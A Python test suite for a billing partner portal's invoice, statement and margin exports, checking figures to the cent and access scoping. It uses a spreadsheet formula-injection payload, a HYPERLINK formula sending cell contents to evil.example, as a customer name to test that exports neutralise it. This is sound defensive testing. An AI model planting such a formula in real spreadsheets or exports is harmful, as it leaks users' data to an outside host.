"""A review of the partner portal's downloads and exports (billing/portal/), as a partner's Billing user uses them to
rebill its own customers: the invoice PDF and XLSX, the customer statements page and CSV, the customer invoices' XLSX
and the Margins page and CSV. Data is made through the command line (tests/clerk.py) and billing runs; every file is
read back (csv, openpyxl) and checked against the invoices to the cent, per customer and per currency, with a credit
note, payments (one short, one over), a true-up, a suspended customer and a customer added mid-month.

Each finding was first a strict xfail that failed on the code as it was; the defects are fixed and the tests pass.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
from collections import defaultdict
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest
import time_machine
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from billing.core.actor import Actor
from invoicing.choices import InvoiceState, LineType
from invoicing.models import Invoice
from invoicing.rebilling.models import CustomerBillingProfile, CustomerInvoice, CustomerInvoiceLine, RebillingProfile
from invoicing.services.ledger import credit_note_issue
from partners.models import Customer, Partner, Role
from partners.tests.factories import PartnerUserFactory, UserFactory
from tests.browser import BROWSER, new_page, portal_sign_in
from tests.clerk import bill, imp, report

pytestmark = pytest.mark.django_db

D = Decimal
PASSWORD = "review-pass-123"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def at(day: str):
    """Freeze the clock at 06:00 UTC of `day` (a run, an import, a click made that morning)."""
    return time_machine.travel(datetime.fromisoformat(day).replace(hour=6, tzinfo=UTC), tick=False)


def portal(partner: Partner, role=Role.BILLING, username: str | None = None) -> Client:
    user = UserFactory(username=username or f"{partner.slug}-{role}", password=PASSWORD)
    PartnerUserFactory(user=user, partner=partner, role=role)
    client = Client()
    client.force_login(user)
    return client


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200, response.status_code
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_cells(content: bytes) -> list[dict]:
    """The sheet's rows as {header: cell} (cells, to read their number formats and types too)."""
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


def xlsx_rows(response) -> list[dict]:
    assert response.status_code == 200, response.status_code
    return [{k: cell.value for k, cell in row.items()} for row in xlsx_cells(response.content)]


def money(value) -> Decimal:
    """A spreadsheet number as the exact cents it shows (openpyxl reads 71.61 back as a float)."""
    return D(str(value)).quantize(D("0.01"))


def text_of(html: str) -> str:
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", html))


def filename(response) -> str:
    return re.search(r'filename="([^"]+)"', response["Content-Disposition"]).group(1)


# --- the data: a USD partner over four months, a JPY partner, a partner of three equal customers ---------------------

@pytest.fixture
def northwind(tmp_path):
    """Northwind MSP (USD, 10% tax, 30 days), billed March to May 2026 through the command line:

    - customers: Oakridge Dental (15 days, 10 hosts), one named like a formula, Café Zürich, Frozen Foods
      (suspended from 10 April 12:00 UTC), two without usage named "+1 Plumbing" and "@Home Care", and Latecomer
      (created 16 April, a seat from 15 April);
    - services: seats (partner-level seat_days, 20.00), hosts (Oakridge per_host, 15.00 from 10 March,
      rounded_daily_rate), m365 (partner-level licenses, 3.00), portal (partner-level flat, 30.00, not taxable);
    - its default resale list: seats 30.00, hosts 25.00, m365 5.00; rebilling on (prefix NW), customers untaxed.

    Hand-worked: March seats 31 + 27 + 22 + 31 = 111 seat-days = 3.5806 seat-months = 71.61 on CI-0002; April
    30 x 4 + 16 = 136 seat-days = 4.5333 = 90.67 on CI-0003. Hosts' first month: round(150.00 / 31) = 4.84 x 21 =
    101.64 (INV-0001); Oakridge's: round(250.00 / 31) = 8.06 x 21 = 169.26 (NW-0001)."""
    with at("2026-03-01"):
        imp(tmp_path, "partners", """
slug,name,currency,tax_rate,payment_terms_days,billing_address
northwind,Northwind MSP,USD,10,30,1 Main St
""")
        imp(tmp_path, "customers", f"""
partner,slug,name,payment_terms_days,host_limit
northwind,oakridge,Oakridge Dental,15,10
northwind,hyper,"{FORMULA_NAME.replace('"', '""')}",,
northwind,cafe,Café Zürich,,
northwind,frozen,Frozen Foods,,
northwind,plus,+1 Plumbing,,
northwind,athome,@Home Care,,
""")
        imp(tmp_path, "services", """
partner,customer,code,name,method,unit_price,start_date,proration,taxable
northwind,,seats,Helpdesk seats,seat_days,20.00,2026-03-01,,true
northwind,oakridge,hosts,Hosting,per_host,15.00,2026-03-10,rounded_daily_rate,true
northwind,,m365,M365 licenses,licenses,3.00,2026-03-01,,true
northwind,,portal,Client portal,flat,30.00,2026-03-01,,false
""")
        imp(tmp_path, "resale-prices", """
partner,customer,service,unit_price,effective_from
northwind,,seats,30.00,2026-03-01
northwind,,hosts,25.00,2026-03-01
northwind,,m365,5.00,2026-03-01
""")
    partner = Partner.objects.get(slug="northwind")
    RebillingProfile.objects.create(partner=partner, enabled=True, number_prefix="NW", payment_terms_days=30)
    with at("2026-03-20"):
        imp(tmp_path, "seat-events", """
partner,customer,member,action,at
northwind,oakridge,ana,assign,2026-03-01T09:00:00Z
northwind,hyper,bob,assign,2026-03-05T09:00:00Z
northwind,cafe,chloé,assign,2026-03-10T09:00:00Z
northwind,frozen,dan,assign,2026-03-01T09:00:00Z
""")
        imp(tmp_path, "tenant-usage", """
partner,customer,date,users_count,storage_bytes
northwind,oakridge,2026-03-01,5,0
northwind,hyper,2026-03-01,3,0
northwind,frozen,2026-03-01,7,0
""")
    bill("2026-03-10")
    with at("2026-04-01"):
        bill("2026-04-01")
    with at("2026-04-16"):
        imp(tmp_path, "tenant-events", """
partner,customer,action,at
northwind,frozen,suspend,2026-04-10T12:00:00Z
""")
        imp(tmp_path, "customers", """
partner,slug,name
northwind,late,Latecomer
""")
        imp(tmp_path, "seat-events", """
partner,customer,member,action,at
northwind,late,eve,assign,2026-04-15T10:00:00Z
""")
    with at("2026-05-01"):
        bill("2026-05-01")
    return partner


@pytest.fixture
def corrected_in_may(northwind, tmp_path):
    """On 10 May: CI-0002 credited in full (CN-0001), CI-0003 (344.24) paid 313.23, INV-0001 (111.80) paid 200.00
    (88.20 over), a seat of Café Zürich from 20 April recorded late (11 seat-days), and NW-0003 (the
    formula-named customer's April invoice, 41.13) credited from the portal. Returns the Billing user's client."""
    client = portal(northwind)
    with at("2026-05-10"):
        credit_note_issue(invoice=Invoice.objects.get(number="CI-0002"), actor=Actor(label="clerk"),
                          reason="billed in error")
        imp(tmp_path, "payments", """
invoice_number,amount,paid_on,reference
CI-0003,313.23,2026-05-09,ACH 1
INV-0001,200.00,2026-05-09,ACH 2
""")
        imp(tmp_path, "seat-events", """
partner,customer,member,action,at
northwind,cafe,zoe,assign,2026-04-20T10:00:00Z
""")
        url = reverse("portal:customer_invoice_credit", args=[CustomerInvoice.objects.get(number="NW-0003").pk])
        token = re.search(r'name="once_token" value="([^"]+)"', client.get(url).content.decode()).group(1)
        assert client.post(url, {"once_token": token, "reason": "billed twice"}).status_code == 302
    return client


@pytest.fixture
def corrected(corrected_in_may):
    """...then the June run: CI-0004 with the April true-up of 11/30 x 20.00 = 7.33 (billing-rules 4.11)."""
    with at("2026-06-01"):
        bill("2026-06-01")
    return corrected_in_may


@pytest.fixture
def sakura(tmp_path):
    """Sakura IT (JPY, 10% tax): Tanaka Shoji has 3 hosts at 1,234 yen from 1 April, resold at 2,000 yen, the
    customer taxed 10% by the partner; rebilling on (prefix SAK). Ours: 3 x 1,234 = 3,702 + 370 tax. Theirs:
    3 x 2,000 = 6,000 + 600 tax = 6,600."""
    with at("2026-04-01"):
        imp(tmp_path, "partners", """
slug,name,currency,tax_rate,payment_terms_days,billing_address
sakura,Sakura IT,JPY,10,30,1-1 Chiyoda
""")
        imp(tmp_path, "customers", """
partner,slug,name,host_limit
sakura,tanaka,Tanaka Shoji,3
""")
        imp(tmp_path, "services", """
partner,customer,code,name,method,unit_price,start_date
sakura,tanaka,hosts,Hosting,per_host,1234,2026-04-01
""")
        imp(tmp_path, "resale-prices", """
partner,customer,service,unit_price,effective_from
sakura,,hosts,2000,2026-04-01
""")
    partner = Partner.objects.get(slug="sakura")
    RebillingProfile.objects.create(partner=partner, enabled=True, number_prefix="SAK", payment_terms_days=30)
    CustomerBillingProfile.objects.create(customer=Customer.objects.get(slug="tanaka"), tax_rate=D("10"))
    with at("2026-04-01"):
        bill("2026-04-01")
    return partner


@pytest.fixture
def trio(tmp_path):
    """Trio IT (USD, no tax): a partner-level seats service at 3.3333 a seat-month from 1 March, resold at 5.00;
    three customers, each with one member holding a seat from 1 to 10 March: 10 seat-days each of a 31-day month.
    Ours (April CI): 30 seat-days = 0.9677 seat-months x 3.3333 = 3.2257... -> 3.23. Theirs: 10/31 = 0.3226 x 5.00
    = 1.61 each."""
    with at("2026-03-01"):
        imp(tmp_path, "partners", """
slug,name,currency,tax_rate,payment_terms_days
trio,Trio IT,USD,0,30
""")
        imp(tmp_path, "customers", """
partner,slug,name
trio,alpha,Alpha
trio,beta,Beta
trio,gamma,Gamma
""")
        imp(tmp_path, "services", """
partner,customer,code,name,method,unit_price,start_date
trio,,seats,Seats,seat_days,3.3333,2026-03-01
""")
        imp(tmp_path, "resale-prices", """
partner,customer,service,unit_price,effective_from
trio,,seats,5.00,2026-03-01
""")
    partner = Partner.objects.get(slug="trio")
    RebillingProfile.objects.create(partner=partner, enabled=True, number_prefix="TRIO", payment_terms_days=30)
    with at("2026-03-20"):
        imp(tmp_path, "seat-events", """
partner,customer,member,action,at
trio,alpha,ann,assign,2026-03-01T08:00:00Z
trio,beta,bea,assign,2026-03-01T08:00:00Z
trio,gamma,gil,assign,2026-03-01T08:00:00Z
trio,alpha,ann,unassign,2026-03-10T17:00:00Z
trio,beta,bea,unassign,2026-03-10T17:00:00Z
trio,gamma,gil,unassign,2026-03-10T17:00:00Z
""")
    with at("2026-04-01"):
        bill("2026-04-01")
    return partner


# --- our invoices: the XLSX and the Billing page ---------------------------------------------------------------------

def test_every_portal_invoice_xlsx_holds_the_documents_lines_to_the_cent(northwind, corrected):
    """Each issued CI, INV and credit note of Northwind downloaded as XLSX from the portal: one row per line, with
    the invoice-lines columns (billing-rules 10.1, 10.2), each amount, quantity and unit price the stored line's,
    the rows adding up to the document's total, the tax line with no quantity and the rate as its unit price
    (4.3), the status as it is now (4.7: CI-0002 void after its full credit, INV-0001 paid with 88.20 over,
    CI-0003 partially paid: 344.24 - 313.23 = 31.01 open; CI-0004 carries the April true-up, 4.11)."""
    client = corrected
    documents = Invoice.objects.filter(partner=northwind, state=InvoiceState.ISSUED).order_by("issue_date", "number")
    assert [d.number for d in documents] == ["CI-0001", "INV-0001", "CI-0002", "CI-0003", "CN-0001", "CI-0004"]
    statuses = {}
    for document in documents:
        response = client.get(reverse("portal:invoice_xlsx", args=[document.pk]))
        assert filename(response) == f"{document.number}-lines.xlsx"
        rows = xlsx_rows(response)
        stored = list(document.lines.order_by("position", "pk"))
        assert len(rows) == len(stored), document.number
        for row, line in zip(rows, stored, strict=True):
            assert row["invoice_number"] == document.number and row["line_type"] == line.line_type
            assert money(row["amount"]) == line.amount, (document.number, line.description)
            if line.line_type == LineType.TAX:
                assert row["quantity"] is None and D(str(row["unit_price"])) == document.tax_rate
            else:
                assert D(str(row["quantity"])) == line.quantity.quantize(D("0.0001"))
        assert sum(money(r["amount"]) for r in rows) == document.total, document.number
        statuses[document.number] = {r["status"] for r in rows}
    assert statuses["CI-0002"] == {"void"} and statuses["INV-0001"] == {"paid"}
    assert statuses["CI-0003"] == {"partially_paid"} and statuses["CN-0001"] == {"paid"}
    june = xlsx_rows(client.get(reverse("portal:invoice_xlsx", args=[documents.get(number="CI-0004").pk])))
    true_up = [r for r in june if r["line_type"] == "true_up"]
    assert [(r["period"], money(r["amount"])) for r in true_up] == [("2026-04", D("7.33"))]  # 11/30 x 20.00


def test_the_billing_page_shows_each_invoices_open_amount(northwind, corrected):
    """The portal's Billing page (billing-rules 4.7): each invoice's own remainder (CI-0003 344.24 - 313.23 =
    31.01; INV-0001 overpaid: 0.00; CI-0001 unpaid and overdue: 30.00), and the balance now: every document
    issued (30.00 + 111.80 + 323.27 + 344.24 - 323.27 + CI-0004) less every payment (513.23)."""
    client = corrected
    with at("2026-06-02"):
        html = client.get(reverse("portal:billing")).content.decode()
    page = text_of(html)
    for number, total, open_on_it in [("CI-0003", "344.24", "31.01"), ("INV-0001", "111.80", "0.00"),
                                      ("CI-0001", "30.00", "30.00")]:
        assert re.search(rf"{number} .*? USD {total} USD {open_on_it} ", page), number
    june = Invoice.objects.get(number="CI-0004").total
    assert june == D("361.46")  # 150 + 30 + 120 + 9 + 15 + 7.33 = 331.33, tax 10% of 301.33 = 30.13
    balance = D("30.00") + D("111.80") + D("344.24") + june - D("513.23")
    assert f"USD {balance:,.2f}" in page


def test_a_partner_in_credit_is_not_told_it_owes_a_negative_amount(northwind, corrected_in_may):
    """On 10 May Northwind's documents total 30.00 + 111.80 + 323.27 + 344.24 - 323.27 = 486.04 and it paid
    313.23 + 200.00 = 513.23: it is 27.19 in credit, while CI-0001 (30.00) is still overdue. billing-rules 4.7:
    the portal shows "the balance now ... and the part of it that is overdue"; the customer account page of the
    same portal says "in credit" for a negative balance. The Billing page says "USD -27.19 owed now, of which
    USD 30.00 is overdue": it owes nothing, and the "part" is larger than the whole."""
    with at("2026-05-10"):
        page = text_of(corrected_in_may.get(reverse("portal:billing")).content.decode())
    assert "27.19" in page and "30.00 is overdue" in page  # the figures themselves are right
    assert not re.search(r"USD -[\d,.]+ owed now", page), page[page.index("Your account"):][:200]


# --- the partner's invoices to its customers: XLSX and Margins ------------------------------------------------------

def test_every_customer_invoice_xlsx_matches_the_invoice_to_the_cent(northwind, corrected):
    """Each customer invoice and credit note downloaded as XLSX from the portal (billing-rules 12.9: the
    invoice-lines columns): the rows are the stored lines, add up to the total, and carry the hand-worked
    figures: NW-0001 169.26 (Oakridge's first month, round(250.00/31) = 8.06 x 21), NW-0002 Oakridge's April
    305.00 (hosts 10 x 25.00 + seats 31/31 x 30.00 + 5 licenses x 5.00), NW-0003 27/31 x 30.00 = 26.13 + 3 x 5.00 =
    41.13 and its credit note -41.13, NW-0010 Latecomer's 16/30 x 30.00 = 16.00 (billing-rules 12.5, 12.6)."""
    client = corrected
    expected = {"NW-0001": "169.26", "NW-0002": "305.00", "NW-0003": "41.13", "NW-0004": "21.29",
                "NW-0005": "65.00", "NW-0010": "16.00", "NW-CN-0001": "-41.13"}
    invoices = CustomerInvoice.objects.filter(partner=northwind, state=InvoiceState.ISSUED)
    assert {i.number for i in invoices} >= set(expected)
    for invoice in invoices:
        response = client.get(reverse("portal:customer_invoice_xlsx", args=[invoice.pk]))
        assert filename(response) == f"{invoice.number}-lines.xlsx"
        rows = xlsx_rows(response)
        stored = list(invoice.lines.order_by("position", "pk"))
        assert [(r["line_type"], money(r["amount"])) for r in rows] == [(s.line_type, s.amount) for s in stored]
        assert {r["customer"] for r in rows} == {invoice.customer.slug}
        assert sum(money(r["amount"]) for r in rows) == invoice.total
        if invoice.number in expected:
            assert invoice.total == D(expected[invoice.number]), invoice.number


def test_the_margins_csv_adds_up_the_customer_invoices_and_nets_a_credit(northwind, corrected):
    """/portal/margins/2026-03..2026-06.csv (billing-rules 12.12, rebilling.md 10): per customer and billing month,
    charged = the customer's invoice lines without tax, credit notes netted in the credited month; cost = what our
    lines charged for the same. April: Oakridge 305.00 against 150.00 + 71.61 x 31/111 = 20.00 + 15.00 = 185.00;
    the formula-named customer was credited in full: 0.00 / 0.00, no margin %."""
    client = corrected
    response = client.get(reverse("portal:margins_csv", args=["2026-03..2026-06"]))
    assert filename(response) == "margins-northwind-2026-03..2026-06.csv"
    rows = csv_rows(response)
    charged, cost = defaultdict(D), defaultdict(D)
    for line in (CustomerInvoiceLine.objects.filter(invoice__partner=northwind, invoice__state=InvoiceState.ISSUED)
                 .exclude(line_type=LineType.TAX).select_related("invoice__customer")):
        key = (line.invoice.month, line.invoice.customer.slug)
        charged[key] += line.amount
        cost[key] += line.cost or 0
    assert {(r["month"], r["customer"]): (D(r["charged"]), D(r["cost"])) for r in rows} == {
        key: (charged[key], cost[key]) for key in charged}
    for r in rows:
        assert D(r["margin"]) == D(r["charged"]) - D(r["cost"]) and r["currency"] == "USD"
    april = {r["customer"]: r for r in rows if r["month"] == "2026-04"}
    assert (april["oakridge"]["charged"], april["oakridge"]["cost"], april["oakridge"]["margin_percent"]) == (
        "305.00", "185.00", "39.3")
    assert (april["hyper"]["charged"], april["hyper"]["cost"], april["hyper"]["margin_percent"]) == (
        "0.00", "0.00", "")


# --- the customer statements (rebilling data) ---------------------------------------------------------------------

def test_the_statements_csv_agrees_with_what_the_invoices_billed_per_customer(northwind):
    """The April statement exported from the portal (billing-rules 5, 6.10, 10.3) against the May documents that
    billed April: seat-days 30 + 30 + 30 + 30 + 16 = 136, the seat-days of our seats line; each customer's
    seat-months is the quantity on its own customer invoice; licenses are our m365 lines per customer (Frozen
    Foods, suspended from 10 April at noon, still counts its 7 up to then: 3.6); Latecomer, created mid-month,
    has its 16 days (15 to 30 April); customers without usage are listed with zeros. May: Frozen Foods suspended
    all month has 0 peak users and 0 licenses, its seat still counts 31 days."""
    client = portal(northwind)
    response = client.get(reverse("portal:statements_csv", args=["2026-04"]))
    assert filename(response) == "statements-northwind-2026-04.csv"
    assert response["Content-Type"].startswith("text/csv")
    rows = {r["customer"]: r for r in csv_rows(response)}
    assert set(rows) == {"oakridge", "hyper", "cafe", "frozen", "plus", "athome", "late"}
    assert sum(int(r["seat_days"]) for r in rows.values()) == 136
    ours = Invoice.objects.get(number="CI-0003").lines.get(service__code="seats")
    assert "136 seat-days" in ours.description
    for line in CustomerInvoiceLine.objects.filter(invoice__month="2026-05", service__code="seats",
                                                   invoice__partner=northwind).select_related("invoice__customer"):
        assert D(rows[line.invoice.customer.slug]["seat_months"]) == line.quantity.quantize(D("0.0001"))
    licenses = {line.customer.slug: int(line.quantity)
                for line in Invoice.objects.get(number="CI-0003").lines.filter(service__code="m365")}
    assert licenses == {"oakridge": 5, "hyper": 3, "frozen": 7}
    assert {slug: int(r["licenses"]) for slug, r in rows.items() if int(r["licenses"])} == licenses
    late = rows["late"]
    assert (late["seat_days"], late["seat_months"], late["active_users"]) == ("16", "0.5333", "1")
    assert all(rows[slug][c] == "0" for slug in ("plus", "athome") for c in ("seat_days", "peak_users", "licenses"))
    may = {r["customer"]: r for r in csv_rows(client.get(reverse("portal:statements_csv", args=["2026-05"])))}
    assert (may["frozen"]["peak_users"], may["frozen"]["licenses"], may["frozen"]["seat_days"]) == ("0", "0", "31")
    one = csv_rows(client.get(reverse("portal:statements_csv", args=["2026-04"])
                              + f"?customer={Customer.objects.get(slug='late').pk}"))
    assert [r["customer"] for r in one] == ["late"]


def test_formula_like_names_are_neutralised_in_the_portal_exports(northwind, corrected):
    """billing-rules 10.1: a text cell beginning with =, +, - or @ that is not a number gets a leading '. The
    statements and margins CSVs and the invoice XLSX downloads of the portal hold the names of a customer called
    =HYPERLINK(...), "+1 Plumbing" and "@Home Care"; no XLSX cell is a formula."""
    client = corrected
    statements = {r["customer"]: r["customer_name"]
                  for r in csv_rows(client.get(reverse("portal:statements_csv", args=["2026-04"])))}
    assert statements["hyper"] == "'" + FORMULA_NAME
    assert statements["plus"] == "'+1 Plumbing" and statements["athome"] == "'@Home Care"
    margins = csv_rows(client.get(reverse("portal:margins_csv", args=["2026-05"])))
    assert {r["customer_name"] for r in margins if r["customer"] == "hyper"} == {"'" + FORMULA_NAME}
    for invoice in Invoice.objects.filter(partner=northwind, state=InvoiceState.ISSUED):
        for row in xlsx_cells(client.get(reverse("portal:invoice_xlsx", args=[invoice.pk])).content):
            assert all(cell.data_type != "f" for cell in row.values()), invoice.number
    for invoice in CustomerInvoice.objects.filter(partner=northwind, state=InvoiceState.ISSUED):
        for row in xlsx_cells(client.get(reverse("portal:customer_invoice_xlsx", args=[invoice.pk])).content):
            assert all(cell.data_type != "f" for cell in row.values()), invoice.number


def test_another_partners_statements_and_files_are_not_served(northwind, sakura):
    """Every portal page is scoped to the user's partner (operations 12): Northwind's Billing user asking for
    Sakura's customer's statement, Sakura's invoice and customer invoice files gets 404, and its Margins CSV
    lists only its own customers."""
    client = portal(northwind)
    tanaka = Customer.objects.get(slug="tanaka")
    assert client.get(reverse("portal:statements_csv", args=["2026-04"]) + f"?customer={tanaka.pk}").status_code == 404
    assert client.get(reverse("portal:statements") + f"?customer={tanaka.pk}").status_code == 404
    ours = Invoice.objects.get(partner=sakura)
    assert client.get(reverse("portal:invoice_xlsx", args=[ours.pk])).status_code == 404
    assert client.get(reverse("portal:invoice_pdf", args=[ours.pk])).status_code == 404
    theirs = CustomerInvoice.objects.get(partner=sakura)
    assert client.get(reverse("portal:customer_invoice_xlsx", args=[theirs.pk])).status_code == 404
    assert client.get(reverse("portal:customer_invoice_pdf", args=[theirs.pk])).status_code == 404
    rows = csv_rows(client.get(reverse("portal:margins_csv", args=["2026-04"])))
    assert rows and {r["currency"] for r in rows} == {"USD"} and "tanaka" not in {r["customer"] for r in rows}


def test_an_instant_with_an_offset_counts_in_its_utc_month_and_empty_months_list_zeros(tmp_path):
    """billing-rules 1: 2026-05-01T00:30:00+02:00 is 30 April 22:30 UTC, so a seat assigned then counts 30 April
    (1 seat-day of April) and all of May (31). A month before any usage lists every customer with zeros (5), and
    the Margins CSV of a month without customer invoices is its header alone."""
    with at("2026-04-01"):
        imp(tmp_path, "partners", "slug,name\nedge,Edge IT\n")
        imp(tmp_path, "customers", "partner,slug,name\nedge,one,One\nedge,two,Two\n")
        imp(tmp_path, "services", "partner,code,name,method,unit_price,start_date\n"
                                  "edge,seats,Seats,seat_days,10.00,2026-04-01\n")
    with at("2026-06-02"):
        imp(tmp_path, "seat-events", "partner,customer,member,action,at\n"
                                     "edge,one,ola,assign,2026-05-01T00:30:00+02:00\n")
    client = portal(Partner.objects.get(slug="edge"))
    april = {r["customer"]: r for r in csv_rows(client.get(reverse("portal:statements_csv", args=["2026-04"])))}
    may = {r["customer"]: r for r in csv_rows(client.get(reverse("portal:statements_csv", args=["2026-05"])))}
    assert (april["one"]["seat_days"], april["one"]["seat_months"]) == ("1", "0.0333")
    assert (may["one"]["seat_days"], may["one"]["seat_months"]) == ("31", "1.0000")
    assert april["two"]["seat_days"] == "0" and may["two"]["seat_days"] == "0"
    empty = csv_rows(client.get(reverse("portal:statements_csv", args=["2026-01"])))
    assert [(r["customer"], r["seat_days"], r["peak_users"]) for r in empty] == [("one", "0", "0"), ("two", "0", "0")]
    margins = client.get(reverse("portal:margins_csv", args=["2026-01"]))
    assert margins.content.decode().split() == ["month,customer,customer_name,charged,cost,margin,margin_percent,"
                                                "currency"]


# --- findings ---------------------------------------------------------------------------------------------------------

def test_the_margins_page_at_the_ends_of_the_calendar_is_not_a_server_error(northwind):
    """/portal/margins/?month=9999-12: the month is a valid period (the CSV of the same month answers, and the
    statements page shows it), but the page builds its "next month" link from 10000-01, which raises PeriodError
    out of the view: a 500. The same at ?month=0001-01 (previous month 0000-12) and ?to=9999-12. Refused input,
    or the month shown without a link, never a server error (the portal's own message: "{month}: ...; showing
    {default}")."""
    client = portal(northwind)
    assert client.get(reverse("portal:margins_csv", args=["9999-12"])).status_code == 200
    for query in ("?month=9999-12", "?month=0001-01", "?month=2026-04&to=9999-12"):
        assert client.get(reverse("portal:margins") + query).status_code == 200, query


def test_a_jpy_customer_invoice_xlsx_shows_whole_yen_and_the_rate_as_a_percentage(sakura):
    """billing-rules 12.9: the customer-invoice-lines columns are invoice-lines' (10.2): amounts with the
    currency's minor unit (2: JPY has 0 places, "3702", as our own XLSX of the same month shows it), and a tax
    line's unit price is its rate, 10.00, in every currency (4.3). SAK-0001: 3 x 2,000 = 6,000 + 600 tax."""
    client = portal(sakura)
    ours = xlsx_cells(client.get(reverse("portal:invoice_xlsx", args=[Invoice.objects.get(partner=sakura).pk])).content)
    assert [(r["amount"].value, r["amount"].number_format) for r in ours] == [(3702, "0"), (370, "0")]
    invoice = CustomerInvoice.objects.get(partner=sakura)
    assert invoice.total == D("6600")
    theirs = xlsx_cells(client.get(reverse("portal:customer_invoice_xlsx", args=[invoice.pk])).content)
    assert [(r["amount"].value, r["amount"].number_format) for r in theirs] == [(6000, "0"), (600, "0")]
    tax = next(r for r in theirs if r["line_type"].value == "tax")
    assert tax["unit_price"].number_format == "0.00"
    assert [r["amount"] for r in report("customer-invoice-lines", "--partner", "sakura")] == ["6000", "600"]


def test_the_statements_total_seat_months_is_the_invoices_actual(trio):
    """March: three customers with 10 seat-days each, 30 of a 31-day month. Each row shows 10/31 = 0.3226
    (billing-rules 2: quantities shown with 4 places, computed exactly). Our April CI bills 30 seat-days, actual
    30/31 = 0.9677 seat-months. The page's Total row shows 0.3226 x 3 = 0.9678: a clerk checking the statement
    against the invoice finds a difference that does not exist (the total should be 30/31 = 0.9677, as its
    seat-days total of 30 says)."""
    ours = Invoice.objects.get(partner=trio).lines.get(service__code="seats")
    assert ours.quantity.quantize(D("0.0001")) == D("0.9677") and "30 seat-days" in ours.description
    page = text_of(portal(trio).get(reverse("portal:statements") + "?period=2026-03").content.decode())
    assert "Total 30 0.9677 3" in page, page[page.index("Total"):][:40]


def test_the_margins_cost_column_adds_up_to_what_we_charged(trio):
    """billing-rules 12.12: each customer line's cost is our line's amount x the customer's share of the readings;
    the Margins page says "What we charged you is what our own invoice charged for the same quantities". Our
    April CI charged Trio 3.23 for the three customers' 30 seat-days, all three rebilled; their shares 3.23 / 3 =
    1.0767 are each rounded to 1.08, so the page and its CSV say we charged 3.24, and the margin (4.83 - 3.24 =
    1.59) is a cent short of what Trio kept (4.83 - 3.23 = 1.60). The shares of one line should add up to it
    (the last share taking the rest, as credit_note_tax does for tax)."""
    ours = Invoice.objects.get(partner=trio)
    assert ours.total == D("3.23")
    rows = csv_rows(portal(trio).get(reverse("portal:margins_csv", args=["2026-04"])))
    assert [r["charged"] for r in rows] == ["1.61", "1.61", "1.61"]
    assert sum(D(r["cost"]) for r in rows) == ours.total
    assert sum(D(r["margin"]) for r in rows) == D("4.83") - ours.total


# --- in Chromium ------------------------------------------------------------------------------------------------------

@pytest.mark.django_db(transaction=True)
@BROWSER[0]
@BROWSER[1]
@BROWSER[2]
def test_a_billing_user_downloads_a_statement_a_customer_invoice_and_a_pdf_in_chromium(northwind, browser,
                                                                                    live_server, tmp_path):
    """Northwind's Billing user in Chromium: the statements page for April 2026 (looked at: PNG in tmp_path), its
    CSV (the same rows as the page; seat-days 136 as our CI-0003 billed), Oakridge's May invoice NW-0006 as XLSX
    (305.00: 10 hosts x 25.00 + 1 seat-month x 30.00 + 5 licenses x 5.00, billing-rules 12.5) and CI-0003 as PDF,
    whose total is the stored one (billing-rules 4.6, 4.10)."""
    user = UserFactory(username="nw.billing", password=PASSWORD)
    PartnerUserFactory(user=user, partner=northwind, role=Role.BILLING)
    page = new_page(browser, 1440, 900, accept_downloads=True)
    portal_sign_in(page, live_server.url, "nw.billing", PASSWORD)

    page.goto(f"{live_server.url}/portal/billing/statements/")
    page.fill("#id_period", "2026-04")
    page.click("form[aria-label='Choose a month'] button[type=submit]")
    page.wait_for_url("**period=2026-04**")
    assert page.locator("table td strong", has_text="Latecomer").count() == 1
    assert page.locator("table td strong", has_text=FORMULA_NAME).count() == 1  # shown as text, as typed
    page.screenshot(path=str(tmp_path / "statements.png"), full_page=True)
    print(f"screenshot: {tmp_path / 'statements.png'}")
    with page.expect_download() as info:
        page.click("a[data-export=csv]")
    assert info.value.suggested_filename == "statements-northwind-2026-04.csv"
    rows = list(csv.DictReader(io.StringIO(Path(info.value.path()).read_text(encoding="utf-8-sig"))))
    shown = page.locator("table tbody tr").count()
    assert len(rows) == shown == 7
    assert sum(int(r["seat_days"]) for r in rows) == 136

    page.goto(f"{live_server.url}/portal/customer-invoices/")
    page.screenshot(path=str(tmp_path / "customer-invoices.png"), full_page=True)
    invoice = CustomerInvoice.objects.get(number="NW-0006")
    with page.expect_download() as info:
        page.click(f"a[href='/portal/customer-invoices/{invoice.pk}/xlsx/']")
    assert info.value.suggested_filename == "NW-0006-lines.xlsx"
    lines = [{k: c.value for k, c in row.items()} for row in xlsx_cells(Path(info.value.path()).read_bytes())]
    assert sorted((r["service"], money(r["amount"])) for r in lines) == [
        ("hosts", D("250.00")), ("m365", D("25.00")), ("seats", D("30.00"))]
    assert sum(money(r["amount"]) for r in lines) == invoice.total == D("305.00")

    page.goto(f"{live_server.url}/portal/billing/")
    with page.expect_download() as info:
        page.click("a[data-pdf='CI-0003']")
    assert info.value.suggested_filename == "CI-0003.pdf"
    pdf = tmp_path / "CI-0003.pdf"
    info.value.save_as(pdf)
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    total = Invoice.objects.get(number="CI-0003").total
    assert total == D("344.24") and "CI-0003" in text and "344.24" in text
